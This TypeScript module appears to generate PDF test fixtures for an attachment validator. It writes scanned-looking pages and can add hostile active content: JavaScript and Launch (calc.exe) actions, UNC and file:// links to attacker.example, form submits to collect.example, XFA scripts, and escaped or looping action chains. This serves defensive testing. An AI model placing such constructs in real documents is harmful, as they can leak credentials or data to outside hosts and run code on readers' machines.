/**
 * A tiny PDF writer for test fixtures: scanned-looking pages (an image
 * painted over the page) with exact sizes, resolutions and colour, plus
 * the hostile features a PJ must not carry. Every fixture it writes is
 * checked by qpdf and pdfimages in the tests, so the checks never rest on
 * this writer alone.
 */
import { zlibSync } from 'fflate';

export type Colour = 'grey' | 'rgb' | 'cmyk' | 'bilevel' | 'indexed-grey' | 'indexed-colour' | 'icc-grey' | 'mask';

export interface ScanPage {
  readonly widthMm?: number;
  readonly heightMm?: number;
  /** Resolution of the painted image; default 200. */
  readonly dpi?: number;
  readonly colour?: Colour;
  /** How the image is painted: a direct XObject (default), inside a form XObject, or inline. */
  readonly via?: 'xobject' | 'form' | 'inline';
  /** Share of the page the image covers along each side (default 1: the whole page). */
  readonly scale?: number;
  readonly rotate?: number;
  /** Extra small image (a stamp) at 72 dpi covering 1 % of the page. */
  readonly stamp?: boolean;
  /** A page without any image. */
  readonly vector?: boolean;
}

/**
 * An action (ISO 32000-1 §12.6.4) a PJ may carry. The harmless ones
 * (`goto`, `named`, `hide`, `reset-form`) move, show or reset, and reach
 * nothing outside the file.
 */
export type ActionKind =
  | 'javascript'
  | 'launch'
  | 'submit-form'
  | 'import-data'
  | 'uri'
  | 'uri-mailto'
  | 'uri-unc'
  | 'uri-file'
  | 'uri-javascript'
  | 'goto-r'
  | 'goto-r-unc'
  | 'goto-e-unc'
  | 'thread-remote'
  | 'rendition'
  | 'sound'
  | 'movie'
  | 'goto'
  | 'named'
  | 'hide'
  | 'reset-form';

/**
 * Where an action sits: the catalog's /OpenAction or additional actions
 * (/AA /WC), the first page's /AA (/O), a link annotation's /A or /AA (/E),
 * a push button's /A, a text field's /AA (/K), an outline item's /A, or the
 * document-level /JavaScript name tree.
 */
export type ActionContainer = 'open-action' | 'catalog-aa' | 'page-aa' | 'link' | 'link-aa' | 'widget' | 'widget-aa' | 'outline' | 'names';

export interface ActionPlacement {
  readonly action: ActionKind;
  readonly in: ActionContainer;
  /** Harmless GoTo actions before it, chained by /Next (default 0). */
  readonly after?: number;
  /** Each action of the chain is an indirect object (default: written inline, nested by /Next). */
  readonly indirect?: boolean;
  /** The last action's /Next points back at the first (a loop; the chain is then indirect). */
  readonly loop?: boolean;
  /** Every name of the chain written with a `#xx` escape (`/#53 /#55RI`). */
  readonly escaped?: boolean;
  /** The address of a `uri` action (default `https://www.example.org/annexe`), written as a literal string. */
  readonly uri?: string;
}

/** Annotations that play media or run a player (§13): RichMedia, 3D, Movie, Sound. */
export type MediaAnnotation = 'richmedia' | '3d' | 'movie' | 'sound';

/** An XFA form (XFA 3.3) in /AcroForm /XFA: one stream, or an array of packets. */
export interface XfaSpec {
  /** A script on the field's initialize event: JavaScript or FormCalc (no contentType). */
  readonly script?: 'javascript' | 'formcalc';
  /** A <submit> to a URL on a click event. */
  readonly submit?: boolean;
  /** Written as an array of packets (preamble, config, template, datasets, postamble). */
  readonly packets?: boolean;
  /** The template split in two packets in the middle of its `<script` tag. */
  readonly split?: boolean;
  /** FlateDecode the XFA streams. */
  readonly compress?: boolean;
  /** UTF-16BE with a byte-order mark. */
  readonly utf16?: boolean;
}

export interface WriterOptions {
  readonly javascript?: 'openaction' | 'names' | 'annotation' | 'escaped-name';
  /** Actions placed in containers (SCOR-1 active content). */
  readonly actions?: readonly ActionPlacement[];
  /** Media annotations on the first page. */
  readonly media?: readonly MediaAnnotation[];
  /** An XFA form. */
  readonly xfa?: XfaSpec;
  /** Content from outside the file: a form XObject whose data is an external file (/F), or a reference XObject (/Ref). */
  readonly external?: 'stream' | 'reference';
  /** Every object but streams in one compressed object stream, with a cross-reference stream (PDF 1.5). */
  readonly objectStreams?: boolean;
  readonly launch?: boolean;
  readonly embeddedFile?: boolean;
  readonly attachmentAnnotation?: boolean;
  readonly encrypt?: boolean;
  /** Compress the page content streams (default true). */
  readonly compress?: boolean;
  readonly version?: string;
  /** Varies the samples, so that two scans differ (default 0). */
  readonly seed?: number;
  /** Scanner noise: one pixel in `grain` gets a random offset, so the data compresses like a real scan (default: none). */
  readonly grain?: number;
  /** A blank scan: every sample the same light grey (white when bilevel), so an A4 page weighs a few KB (conformance vectors). */
  readonly flat?: boolean;
}

const enc = new TextEncoder();
const MM = 72 / 25.4;

/** Objects numbered from 1; each body is the text between `obj` and `endobj` (streams as bytes). */
class Doc {
  readonly objects: (Uint8Array | string)[] = [];
  add(body: string | Uint8Array = ''): number {
    this.objects.push(body);
    return this.objects.length;
  }
  set(num: number, body: string | Uint8Array): void {
    this.objects[num - 1] = body;
  }
  stream(dict: string, data: Uint8Array): Uint8Array {
    return concat([enc.encode(`<< ${dict} /Length ${data.length} >>\nstream\n`), data, enc.encode('\nendstream')]);
  }
  /** A classic xref table and trailer. */
  serialize(rootNum: number, extraTrailer = '', version = '1.7'): Uint8Array {
    const parts: Uint8Array[] = [enc.encode(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`)];
    let offset = parts[0]!.length;
    const offsets: number[] = [];
    this.objects.forEach((body, i) => {
      offsets.push(offset);
      const chunk = concat([enc.encode(`${i + 1} 0 obj\n`), typeof body === 'string' ? enc.encode(body) : body, enc.encode('\nendobj\n')]);
      parts.push(chunk);
      offset += chunk.length;
    });
    const xref = [`xref\n0 ${this.objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
    parts.push(enc.encode(`${xref}trailer\n<< /Size ${this.objects.length + 1} /Root ${rootNum} 0 R ${extraTrailer}>>\nstartxref\n${offset}\n%%EOF\n`));
    return concat(parts);
  }
  /**
   * Every object that is not a stream in one compressed object stream
   * (§7.5.7), located by a cross-reference stream (§7.5.8) that doubles as the trailer.
   */
  serializeCompressed(rootNum: number, version = '1.7'): Uint8Array {
    const parts: Uint8Array[] = [enc.encode(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`)];
    let offset = parts[0]!.length;
    const objStm = this.objects.length + 1;
    const xrefNum = objStm + 1;
    const entries: [number, number, number][] = [[0, 0, 0xffff]];
    const header: string[] = [];
    const bodies: string[] = [];
    let inStream = 0;
    let bodyOffset = 0;
    const write = (num: number, body: Uint8Array | string): void => {
      entries[num] = [1, offset, 0];
      const chunk = concat([enc.encode(`${num} 0 obj\n`), typeof body === 'string' ? enc.encode(body) : body, enc.encode('\nendobj\n')]);
      parts.push(chunk);
      offset += chunk.length;
    };
    for (const [i, body] of this.objects.entries()) {
      if (typeof body !== 'string') {
        write(i + 1, body);
        continue;
      }
      entries[i + 1] = [2, objStm, inStream++];
      header.push(`${i + 1} ${bodyOffset}`);
      const text = `${body}\n`;
      bodies.push(text);
      bodyOffset += enc.encode(text).length;
    }
    const head = `${header.join(' ')}\n`;
    const data = zlibSync(enc.encode(head + bodies.join('')), { level: 6 });
    write(objStm, this.stream(`/Type /ObjStm /N ${inStream} /First ${enc.encode(head).length} /Filter /FlateDecode`, data));
    entries[xrefNum] = [1, offset, 0];
    const table = new Uint8Array(entries.length * 7);
    entries.forEach(([type, a, b], n) => {
      table[n * 7] = type;
      for (let k = 0; k < 4; k++) table[n * 7 + 1 + k] = (a >>> (24 - 8 * k)) & 0xff;
      table[n * 7 + 5] = b >> 8;
      table[n * 7 + 6] = b & 0xff;
    });
    const xrefAt = offset;
    write(xrefNum, this.stream(`/Type /XRef /Size ${entries.length} /W [1 4 2] /Root ${rootNum} 0 R`, table));
    parts.push(enc.encode(`startxref\n${xrefAt}\n%%EOF\n`));
    return concat(parts);
  }
}

export function concat(parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let o = 0;
  for (const p of parts) {
    out.set(p, o);
    o += p.length;
  }
  return out;
}

/** Deterministic "scanned text" samples: a light background with darker strokes. */
function samples(width: number, height: number, components: number, bits: number, seed: number, grain = 0): Uint8Array {
  const rowBytes = Math.ceil((width * components * bits) / 8);
  const out = new Uint8Array(rowBytes * height);
  if (bits === 1) {
    out.fill(0xff);
    for (let y = 0; y < height; y++) if (y % 40 < 3) out.fill(0x0f, y * rowBytes, y * rowBytes + (rowBytes >> 1));
    return out;
  }
  for (let y = 0; y < height; y++) {
    const ink = (y + seed) % 40 < 4;
    for (let x = 0; x < rowBytes; x++) out[y * rowBytes + x] = ink && x % 13 < 8 ? 40 + ((x * 7) & 31) : 235 + (x & 7);
  }
  if (grain > 0) {
    let x = (seed * 2654435761) >>> 0 || 1;
    for (let i = 0; i < out.length; i += 1 + (x % (2 * grain))) {
      x ^= x << 13;
      x ^= x >>> 17;
      x ^= x << 5;
      x >>>= 0;
      out[i] = (out[i]! - (x & 63)) & 0xff;
    }
  }
  // the seed itself, in the first samples: no two seeds give the same scan
  for (let k = 0; k < 4 && k < out.length; k++) out[k] = (seed >>> (8 * k)) & 0xff;
  return out;
}

interface ImageSpec {
  readonly dict: string;
  readonly data: Uint8Array;
  readonly inlineDict: string;
}

function image(doc: Doc, width: number, height: number, colour: Colour, seed = 0, grain = 0, flat = false): ImageSpec {
  let cs = '/DeviceGray';
  let inlineCs = '/G';
  let comps = 1;
  let bits = 8;
  let extra = '';
  switch (colour) {
    case 'rgb':
      cs = '/DeviceRGB';
      inlineCs = '/RGB';
      comps = 3;
      break;
    case 'cmyk':
      cs = '/DeviceCMYK';
      inlineCs = '/CMYK';
      comps = 4;
      break;
    case 'bilevel':
      bits = 1;
      break;
    case 'mask':
      cs = '';
      bits = 1;
      extra = '/ImageMask true';
      break;
    case 'indexed-grey': {
      const palette = Array.from({ length: 256 }, (_, i) => i.toString(16).padStart(2, '0').repeat(3)).join('');
      cs = `[/Indexed /DeviceRGB 255 <${palette}>]`;
      inlineCs = cs;
      break;
    }
    case 'indexed-colour': {
      const palette = Array.from({ length: 256 }, (_, i) => `${i.toString(16).padStart(2, '0')}00${(255 - i).toString(16).padStart(2, '0')}`).join('');
      cs = `[/Indexed /DeviceRGB 255 <${palette}>]`;
      inlineCs = cs;
      break;
    }
    case 'icc-grey': {
      const profile = doc.add(doc.stream('/N 1 /Alternate /DeviceGray', new Uint8Array(128)));
      cs = `[/ICCBased ${profile} 0 R]`;
      inlineCs = '/G';
      break;
    }
    default:
      break;
  }
  const data = flat
    ? zlibSync(new Uint8Array(Math.ceil((width * comps * bits) / 8) * height).fill(bits === 1 ? 0xff : 235), { level: 9 })
    : zlibSync(samples(width, height, comps, bits, seed, grain), { level: 1 });
  const csEntry = cs === '' ? '' : `/ColorSpace ${cs}`;
  return {
    dict: `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} ${csEntry} /BitsPerComponent ${bits} ${extra} /Filter /FlateDecode`,
    data,
    inlineDict: `/W ${width} /H ${height} ${cs === '' ? '/IM true' : `/CS ${inlineCs}`} /BPC ${bits} /F /Fl`,
  };
}

/**
 * A PDF of scanned-looking pages. An A4 page at 200 dpi is a
 * 1654 × 2339 image painted over the whole page, like a scanner makes.
 */
export function scanPdf(pages: readonly ScanPage[], options: WriterOptions = {}): Uint8Array {
  const doc = new Doc();
  const catalog = doc.add();
  const pagesNum = doc.add();
  const kids: number[] = [];
  for (const p of pages) {
    const wPt = (p.widthMm ?? 210) * MM;
    const hPt = (p.heightMm ?? 297) * MM;
    const scale = p.scale ?? 1;
    const dpi = p.dpi ?? 200;
    const drawW = wPt * scale;
    const drawH = hPt * scale;
    const pxW = Math.max(1, Math.round((drawW / 72) * dpi));
    const pxH = Math.max(1, Math.round((drawH / 72) * dpi));
    const xobjects: string[] = [];
    let content = '';
    if (p.vector !== true) {
      const img = image(doc, pxW, pxH, p.colour ?? 'grey', options.seed ?? 0, options.grain ?? 0, options.flat === true);
      const cm = `${drawW.toFixed(4)} 0 0 ${drawH.toFixed(4)} 0 0 cm`;
      if (p.via === 'inline') {
        const body = concat([enc.encode(`q ${cm} BI ${img.inlineDict} ID\n`), img.data, enc.encode('\nEI Q\n')]);
        kids.push(addPage(doc, pagesNum, wPt, hPt, p.rotate, xobjects, body, options));
        continue;
      }
      const imgNum = doc.add(doc.stream(img.dict, img.data));
      if (p.via === 'form') {
        const formContent = enc.encode(`q ${cm} /Im0 Do Q`);
        const form = doc.add(
          doc.stream(
            `/Type /XObject /Subtype /Form /BBox [0 0 ${wPt.toFixed(2)} ${hPt.toFixed(2)}] /Matrix [1 0 0 1 0 0] /Resources << /XObject << /Im0 ${imgNum} 0 R >> >>`,
            formContent,
          ),
        );
        xobjects.push(`/Fm0 ${form} 0 R`);
        content += 'q /Fm0 Do Q\n';
      } else {
        xobjects.push(`/Im0 ${imgNum} 0 R`);
        content += `q ${cm} /Im0 Do Q\n`;
      }
    } else {
      content += 'BT /F1 12 Tf 72 720 Td (Annexe) Tj ET\n0 0 1 RG 72 700 m 500 700 l S\n';
    }
    if (p.stamp === true) {
      const sw = wPt * 0.1;
      const sh = hPt * 0.1;
      const st = image(doc, Math.round(sw), Math.round(sh), 'rgb', 0, 0, options.flat === true);
      const stNum = doc.add(doc.stream(st.dict, st.data));
      xobjects.push(`/St0 ${stNum} 0 R`);
      content += `q ${sw.toFixed(4)} 0 0 ${sh.toFixed(4)} 20 20 cm /St0 Do Q\n`;
    }
    kids.push(addPage(doc, pagesNum, wPt, hPt, p.rotate, xobjects, enc.encode(content), options));
  }
  let catalogExtra = '';
  if (options.javascript === 'openaction') catalogExtra += ' /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>';
  if (options.javascript === 'escaped-name') catalogExtra += ' /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>';
  if (options.javascript === 'names') {
    const js = doc.add('<< /S /JavaScript /JS (this.print\\(\\)) >>');
    catalogExtra += ` /Names << /JavaScript << /Names [(a) ${js} 0 R] >> >>`;
  }
  if (options.launch === true) catalogExtra += ' /OpenAction << /S /Launch /F (calc.exe) >>';
  if (options.embeddedFile === true) {
    const file = doc.add(doc.stream('/Type /EmbeddedFile', enc.encode('hello')));
    const spec = doc.add(`<< /Type /Filespec /F (a.txt) /EF << /F ${file} 0 R >> >>`);
    catalogExtra += ` /Names << /EmbeddedFiles << /Names [(a.txt) ${spec} 0 R] >> >>`;
  }
  const annots: number[] = [];
  if (options.javascript === 'annotation' || options.attachmentAnnotation === true) {
    const annot =
      options.attachmentAnnotation === true
        ? doc.add('<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (x.bin) >>')
        : doc.add('<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /JavaScript /JS (1) >> >>');
    annots.push(annot);
  }
  const active = addActiveContent(doc, kids[0]!, options);
  annots.push(...active.annots);
  catalogExtra += active.catalog;
  if (annots.length > 0 || active.page !== '') {
    // on the first page
    const first = kids[0]!;
    const body = doc.objects[first - 1] as string;
    const list = annots.length === 0 ? '' : `/Annots [${annots.map((a) => `${a} 0 R`).join(' ')}] `;
    doc.set(first, body.replace('/Type /Page ', `/Type /Page ${list}${active.page}`));
  }
  if (active.xobject !== undefined) {
    const first = kids[0]!;
    const body = doc.objects[first - 1] as string;
    const ex = `/Ex0 ${active.xobject} 0 R`;
    doc.set(
      first,
      body.includes('/XObject << ')
        ? body.replace('/XObject << ', `/XObject << ${ex} `)
        : body.replace('/Resources << ', `/Resources << /XObject << ${ex} >> `),
    );
  }
  doc.set(catalog, `<< /Type /Catalog /Pages ${pagesNum} 0 R${catalogExtra} >>`);
  doc.set(pagesNum, `<< /Type /Pages /Kids [${kids.map((k) => `${k} 0 R`).join(' ')}] /Count ${kids.length} >>`);
  let trailerExtra = '';
  if (options.encrypt === true) {
    const e = doc.add('<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>');
    trailerExtra = `/Encrypt ${e} 0 R /ID [<01><01>] `;
  }
  return options.objectStreams === true ? doc.serializeCompressed(catalog, options.version) : doc.serialize(catalog, trailerExtra, options.version);
}

const URL_FILE = (url: string): string => `<< /FS /URL /F (${url}) >>`;
/** `\\\\host\\share\\x` in a PDF literal string: the UNC path `\\host\share\x`. */
const UNC = (file: string): string => `\\\\\\\\attacker.example\\\\share\\\\${file}`;

function actionBody(doc: Doc, kind: ActionKind, page: number, uri = 'https://www.example.org/annexe'): string {
  switch (kind) {
    case 'javascript':
      return '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
    case 'launch':
      return '<< /S /Launch /F (calc.exe) >>';
    case 'submit-form':
      return `<< /S /SubmitForm /F ${URL_FILE('https://collect.example/pj')} /Flags 4 >>`;
    case 'import-data':
      return '<< /S /ImportData /F (donnees.fdf) >>';
    case 'uri':
      return `<< /S /URI /URI ${pdfString(uri)} >>`;
    case 'uri-mailto':
      return '<< /S /URI /URI (mailto:secretariat@example.org) >>';
    case 'uri-unc':
      return `<< /S /URI /URI (${UNC('x.png')}) >>`;
    case 'uri-file':
      return '<< /S /URI /URI (file://attacker.example/share/x.png) >>';
    case 'uri-javascript':
      return '<< /S /URI /URI (javascript:alert\\(1\\)) >>';
    case 'goto-r':
      return '<< /S /GoToR /F (annexe-2.pdf) /D [0 /Fit] >>';
    case 'goto-r-unc':
      return `<< /S /GoToR /F (${UNC('x.pdf')}) /D [0 /Fit] >>`;
    case 'goto-e-unc':
      return `<< /S /GoToE /F (${UNC('x.pdf')}) /D [0 /Fit] /NewWindow false /T << /R /C /N (a) >> >>`;
    case 'thread-remote':
      return '<< /S /Thread /F (annexe-2.pdf) /D 0 >>';
    case 'rendition':
      return `<< /S /Rendition /OP 0 /R << /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /CT (video/mp4) /D ${URL_FILE('https://media.example/v.mp4')} >> >> >>`;
    case 'sound': {
      const sound = doc.add(doc.stream('/Type /Sound /R 8000 /C 1 /B 8 /E /Raw', new Uint8Array(800).fill(0x80)));
      return `<< /S /Sound /Sound ${sound} 0 R >>`;
    }
    case 'movie':
      return '<< /S /Movie /T (film) /Operation /Play >>';
    case 'goto':
      return `<< /S /GoTo /D [${page} 0 R /Fit] >>`;
    case 'named':
      return '<< /S /Named /N /NextPage >>';
    case 'hide':
      return '<< /S /Hide /T (nom) /H true >>';
    case 'reset-form':
      return '<< /S /ResetForm >>';
  }
}

/** A string object: a literal for ASCII text, else UTF-16BE with its byte-order mark in hexadecimal (§7.9.2.2). */
function pdfString(text: string): string {
  if (!/[^\x00-\x7f]/.test(text)) return `(${text.replace(/[\\()]/g, '\\$&')})`;
  let hex = 'FEFF';
  for (let i = 0; i < text.length; i++) hex += text.charCodeAt(i).toString(16).padStart(4, '0');
  return `<${hex}>`;
}

/** A stream object's body: its dictionary (with /Length) and data. */
export function streamBody(dict: string, data: Uint8Array): Uint8Array {
  return new Doc().stream(dict, data);
}

/** A PDF of the given objects (numbered from 1), with a classic cross-reference table; `root` is the catalog. */
export function pdfOf(bodies: readonly (string | Uint8Array)[], root = 1): Uint8Array {
  const doc = new Doc();
  for (const b of bodies) doc.add(b);
  return doc.serialize(root);
}

/** Every name outside strings written as `/#xx…` (its first character escaped, §7.3.5). */
export function escapeNames(body: string): string {
  let out = '';
  let depth = 0;
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (depth > 0) {
      out += c;
      if (c === '\\') out += body[++i] ?? '';
      else if (c === '(') depth++;
      else if (c === ')') depth--;
    } else if (c === '(') {
      depth = 1;
      out += c;
    } else if (c === '/' && /[A-Za-z0-9]/.test(body[i + 1] ?? '')) {
      out += `/#${body
        .charCodeAt(i + 1)
        .toString(16)
        .toUpperCase()
        .padStart(2, '0')}`;
      i++;
    } else out += c;
  }
  return out;
}

/** The chain of a placement: `after` GoTo actions then the action, linked by /Next; what the container refers to. */
function actionChain(doc: Doc, p: ActionPlacement, page: number): string {
  const esc = (s: string): string => (p.escaped === true ? escapeNames(s) : s);
  const bodies = [...Array.from({ length: p.after ?? 0 }, () => actionBody(doc, 'goto', page)), actionBody(doc, p.action, page, p.uri)];
  const withNext = (body: string, next: string): string => `${body.slice(0, -2)}/Next ${next} >>`;
  if (p.indirect === true || p.loop === true) {
    const nums = bodies.map(() => doc.add());
    bodies.forEach((body, i) => {
      const next = i + 1 < nums.length ? nums[i + 1] : p.loop === true ? nums[0] : undefined;
      doc.set(nums[i]!, esc(next === undefined ? body : withNext(body, `${next} 0 R`)));
    });
    return `${nums[0]} 0 R`;
  }
  let text = bodies.at(-1)!;
  for (let i = bodies.length - 2; i >= 0; i--) text = withNext(bodies[i]!, text);
  return esc(text);
}

/** The XFA packets of a one-field form, with the scripts or submit asked for. */
function xfaPackets(spec: XfaSpec): [string, string][] {
  const events: string[] = [];
  if (spec.script === 'javascript')
    events.push('<event activity="initialize"><script contentType="application/x-javascript">app.alert("XFA");</script></event>');
  if (spec.script === 'formcalc') events.push('<event activity="initialize"><script>xfa.host.messageBox("XFA")</script></event>');
  if (spec.submit === true) events.push('<event activity="click"><submit format="xml" target="https://collect.example/xfa" textEncoding="UTF-8"/></event>');
  const template =
    '<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1" layout="tb" locale="fr_FR"><pageSet><pageArea name="P1">' +
    '<contentArea x="0mm" y="0mm" w="210mm" h="297mm"/><medium stock="a4" short="210mm" long="297mm"/></pageArea></pageSet>' +
    `<field name="nom" w="80mm" h="9mm"><ui><textEdit/></ui>${events.join('')}</field></subform></template>`;
  const packets: [string, string][] = [
    ['preamble', '<?xml version="1.0" encoding="UTF-8"?>\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'],
    ['config', '<config xmlns="http://www.xfa.org/schema/xci/3.1/"><present><pdf><version>1.7</version></pdf></present></config>'],
  ];
  const cut = template.indexOf('<script') + 4;
  if (spec.split === true && cut > 4) packets.push(['template', template.slice(0, cut)], ['template', template.slice(cut)]);
  else packets.push(['template', template]);
  packets.push(
    ['datasets', '<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><nom>Dupont</nom></form1></xfa:data></xfa:datasets>'],
    ['postamble', '</xdp:xdp>'],
  );
  return packets;
}

function xfaStream(doc: Doc, text: string, spec: XfaSpec): number {
  let data: Uint8Array;
  if (spec.utf16 === true) {
    const t = text.replace('encoding="UTF-8"', 'encoding="UTF-16"');
    data = new Uint8Array(2 + 2 * t.length);
    data[0] = 0xfe;
    data[1] = 0xff;
    for (let i = 0; i < t.length; i++) {
      data[2 + 2 * i] = t.charCodeAt(i) >> 8;
      data[3 + 2 * i] = t.charCodeAt(i) & 0xff;
    }
  } else data = enc.encode(text);
  return spec.compress === true ? doc.add(doc.stream('/Filter /FlateDecode', zlibSync(data, { level: 6 }))) : doc.add(doc.stream('', data));
}

/** Places the actions, media annotations, XFA form and external content of `options`; returns what the catalog and the first page gain. */
function addActiveContent(doc: Doc, page: number, options: WriterOptions): { catalog: string; page: string; annots: number[]; xobject?: number } {
  let catalog = '';
  let pageExtra = '';
  const annots: number[] = [];
  const fields: number[] = [];
  const catalogAA: string[] = [];
  const outline: string[] = [];
  const names: string[] = [];
  for (const p of options.actions ?? []) {
    const ref = actionChain(doc, p, page);
    switch (p.in) {
      case 'open-action':
        catalog += ` /OpenAction ${ref}`;
        break;
      case 'catalog-aa':
        catalogAA.push(`/WC ${ref}`);
        break;
      case 'page-aa':
        pageExtra += `/AA << /O ${ref} >> `;
        break;
      case 'link':
        annots.push(doc.add(`<< /Type /Annot /Subtype /Link /Rect [20 20 120 40] /Border [0 0 0] /A ${ref} >>`));
        break;
      case 'link-aa':
        annots.push(doc.add(`<< /Type /Annot /Subtype /Link /Rect [20 50 120 70] /Border [0 0 0] /AA << /E ${ref} >> >>`));
        break;
      case 'widget': {
        const w = doc.add(`<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (envoyer) /Rect [20 80 120 100] /P ${page} 0 R /A ${ref} >>`);
        annots.push(w);
        fields.push(w);
        break;
      }
      case 'widget-aa': {
        const w = doc.add(`<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom${fields.length}) /Rect [20 110 120 130] /P ${page} 0 R /AA << /K ${ref} >> >>`);
        annots.push(w);
        fields.push(w);
        break;
      }
      case 'outline':
        outline.push(ref);
        break;
      case 'names':
        names.push(`(js${names.length}) ${ref}`);
        break;
    }
  }
  if (catalogAA.length > 0) catalog += ` /AA << ${catalogAA.join(' ')} >>`;
  if (outline.length > 0) {
    const root = doc.add();
    const items = outline.map((ref, i) => ({ num: doc.add(), ref, i }));
    for (const { num, ref, i } of items) {
      const prev = i > 0 ? ` /Prev ${items[i - 1]!.num} 0 R` : '';
      const next = i + 1 < items.length ? ` /Next ${items[i + 1]!.num} 0 R` : '';
      doc.set(num, `<< /Title (Annexe ${i + 1}) /Parent ${root} 0 R${prev}${next} /A ${ref} >>`);
    }
    doc.set(root, `<< /Type /Outlines /First ${items[0]!.num} 0 R /Last ${items.at(-1)!.num} 0 R /Count ${items.length} >>`);
    catalog += ` /Outlines ${root} 0 R`;
  }
  if (names.length > 0) catalog += ` /Names << /JavaScript << /Names [${names.join(' ')}] >> >>`;
  for (const m of options.media ?? []) {
    const rect = '/Rect [20 140 220 290]';
    switch (m) {
      case 'richmedia':
        annots.push(
          doc.add(
            `<< /Type /Annot /Subtype /RichMedia ${rect} /RichMediaContent << /Configurations [<< /Type /RichMediaConfiguration /Subtype /Video /Instances [] >>] >> >>`,
          ),
        );
        break;
      case '3d': {
        const data = doc.add(doc.stream('/Type /3D /Subtype /U3D', enc.encode('U3D\0\0\0\0')));
        annots.push(doc.add(`<< /Type /Annot /Subtype /3D ${rect} /3DD ${data} 0 R >>`));
        break;
      }
      case 'movie':
        annots.push(doc.add(`<< /Type /Annot /Subtype /Movie ${rect} /T (film) /Movie << /F ${URL_FILE('https://media.example/film.mov')} >> >>`));
        break;
      case 'sound': {
        const sound = doc.add(doc.stream('/Type /Sound /R 8000 /C 1 /B 8 /E /Raw', new Uint8Array(800).fill(0x80)));
        annots.push(doc.add(`<< /Type /Annot /Subtype /Sound ${rect} /Sound ${sound} 0 R /Name /Speaker >>`));
        break;
      }
    }
  }
  let xfa = '';
  if (options.xfa !== undefined) {
    const packets = xfaPackets(options.xfa);
    if (options.xfa.packets === true || options.xfa.split === true)
      xfa = ` /XFA [${packets.map(([name, text]) => `(${name}) ${xfaStream(doc, text, options.xfa!)} 0 R`).join(' ')}]`;
    else xfa = ` /XFA ${xfaStream(doc, packets.map(([, text]) => text).join(''), options.xfa)} 0 R`;
  }
  if (fields.length > 0 || xfa !== '') catalog += ` /AcroForm << /Fields [${fields.map((f) => `${f} 0 R`).join(' ')}]${xfa} >>`;
  if (options.external === undefined) return { catalog, page: pageExtra, annots };
  const xobject =
    options.external === 'stream'
      ? doc.add(doc.stream(`/Type /XObject /Subtype /Form /BBox [0 0 10 10] /F ${URL_FILE('https://media.example/page.bin')}`, new Uint8Array()))
      : doc.add(doc.stream('/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Ref << /F (annexe-2.pdf) /Page 0 >>', enc.encode('0 0 10 10 re S')));
  return { catalog, page: pageExtra, annots, xobject };
}

function addPage(
  doc: Doc,
  parent: number,
  w: number,
  h: number,
  rotate: number | undefined,
  xobjects: readonly string[],
  content: Uint8Array,
  options: WriterOptions,
): number {
  const compressed = options.compress === false ? content : zlibSync(content, { level: 6 });
  const filter = options.compress === false ? '' : '/Filter /FlateDecode';
  const contents = doc.add(doc.stream(filter, compressed));
  const xo = xobjects.length === 0 ? '' : `/XObject << ${xobjects.join(' ')} >>`;
  return doc.add(
    `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 ${w.toFixed(2)} ${h.toFixed(2)}]${rotate === undefined ? '' : ` /Rotate ${rotate}`} /Resources << ${xo} /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Contents ${contents} 0 R >>`,
  );
}
